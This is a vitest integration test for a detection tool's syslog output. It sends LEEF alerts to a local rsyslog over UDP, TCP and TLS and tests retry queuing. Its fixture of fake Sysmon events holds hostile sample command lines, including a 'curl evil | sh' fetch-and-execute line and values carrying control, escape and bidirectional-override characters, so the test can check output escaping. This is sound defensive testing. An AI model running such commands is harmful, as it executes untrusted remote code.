import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SyslogSink } from '../../src/outputs/sinks/syslog.js';
import { CLI, REPO } from '../helpers/cli.js';
import { spawn } from 'node:child_process';
import { freeTcpPort, startRsyslog, waitFor, type Rsyslog } from './rsyslog.js';

/**
 * LEEF over syslog to a real rsyslog: UDP, TCP (octet counting) and TLS. What rsyslog parsed
 * (priority, RFC 5424 header, message) is compared with the LEEF file of the same scan.
 */
const dir = mkdtempSync(join(tmpdir(), 'sw-syslog-'));
const events = join(dir, 'events.ndjson');
const rules = join(dir, 'rules');
const HOSTILE = ['npm install left|pad x=1 C:\\tmp\\t\tTAB', 'sh -c "curl evil | sh"\nsecond line\r\u001b[31m\u202eeulav', 'node -e "a=\\"<script>\\""'];
let rsyslog: Rsyslog;

beforeAll(async () => {
  const { mkdirSync } = await import('node:fs');
  mkdirSync(rules);
  writeFileSync(join(rules, 'npm.yml'), `title: Shell from an install
id: 88888888-0000-4000-8000-000000000001
level: high
logsource: {category: process_creation, product: windows}
detection: {sel: {Image|endswith: '\\\\cmd.exe'}, condition: sel}
`);
  writeFileSync(events, HOSTILE.map((cmd, i) => JSON.stringify({ EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: `host ${i}`, UtcTime: `2026-11-27 09:16:4${i}.004`, Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: cmd })).join('\n') + '\n');
  rsyslog = await startRsyslog();
}, 60_000);

afterAll(() => rsyslog?.stop());

function scan(args: string[], env: Record<string, string> = {}): Promise<{ status: number | null; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, 'scan', events, '--rules', rules, ...args], { cwd: REPO, env: { ...process.env, ...env }, stdio: ['ignore', 'ignore', 'pipe'] });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (status) => resolve({ status, stderr }));
  });
}

describe('syslog to rsyslog', () => {
  it('delivers every alert over UDP, TCP and TLS, as the LEEF file has it', { timeout: 60_000 }, async () => {
    const leef = join(dir, 'alerts.leef');
    const { ports } = rsyslog;
    const result = await scan(['-o', `leef:${leef}`, '-o', `leef:syslog+udp://127.0.0.1:${ports.udp}`, '-o', `leef:syslog+tcp://127.0.0.1:${ports.tcp}`, '-o', `leef:syslog+tls://127.0.0.1:${ports.tls}`], { NODE_EXTRA_CA_CERTS: rsyslog.cert });
    expect(result.status, result.stderr).toBe(1);
    expect(result.stderr).not.toMatch(/not delivered/);
    const lines = readFileSync(leef, 'utf8').split('\n').filter(Boolean);
    expect(lines).toHaveLength(3);
    for (const input of ['udp', 'tcp', 'tls'] as const) {
      await waitFor(() => rsyslog.received(input).length >= 3, `3 messages over ${input}`);
      const got = rsyslog.received(input);
      expect(got.map((m) => m.msg), input).toEqual(lines);
      // local0 (16) * 8 + err (3): a high alert.
      expect(got.map((m) => [m.pri, m.version, m.app, m.msgid, m.host])).toEqual([0, 1, 2].map((i) => ['131', '1', 'supplywatch', 'alert', `host_${i}`]));
      expect(got[0]!.time).toMatch(/^2026-11-27T09:16:40\.004/);
    }
    expect(lines[1]).toContain('CommandLine=sh -c "curl evil | sh"\\nsecond line\\r\\u001b[31m\\u202eeulav');
  });

  it('a receiver that is down does not stop the scan: the summary counts what was not delivered', { timeout: 60_000 }, async () => {
    const port = await freeTcpPort();
    const result = await scan(['-o', `leef:syslog+tcp://127.0.0.1:${port}`, '-o', `cef:${join(dir, 'down.cef')}`]);
    expect(result.status).toBe(2);
    expect(result.stderr).toMatch(new RegExp(`--output leef:syslog\\+tcp://127\\.0\\.0\\.1:${port}: 3 alerts not delivered \\(.*ECONNREFUSED`));
    expect(readFileSync(join(dir, 'down.cef'), 'utf8').split('\n').filter(Boolean)).toHaveLength(3);
  });
});

describe('SyslogSink', () => {
  it('holds messages up to its bound while the receiver is down, retries, then delivers them framed by octet count', { timeout: 30_000 }, async () => {
    const port = await freeTcpPort();
    const sink = new SyslogSink({ transport: 'tcp', host: '127.0.0.1', port, maxQueuedBytes: 30, backoffMs: 50, maxBackoffMs: 100, closeWaitMs: 20_000 });
    sink.write('<131>1 - - a - - - é one\n<131>1 - - b - - - two\n<131>1 - - c - - - three\n');
    let received = '';
    const server = createServer((socket: Socket) => socket.on('data', (d: Buffer) => (received += d.toString('utf8'))));
    // Up only after the sink has failed to connect at least once.
    await new Promise((r) => setTimeout(r, 200));
    await new Promise<void>((r) => server.listen(port, '127.0.0.1', r));
    const report = await sink.close();
    await waitFor(() => received.length > 0, 'the message');
    server.close();
    // 30 units hold the first message (24 UTF-16 units) only: two dropped. Its frame counts octets (é is two).
    expect(report.undelivered).toBe(2);
    expect(report.reason).toMatch(/queue full/);
    expect(received).toBe('25 <131>1 - - a - - - é one');
  });
});
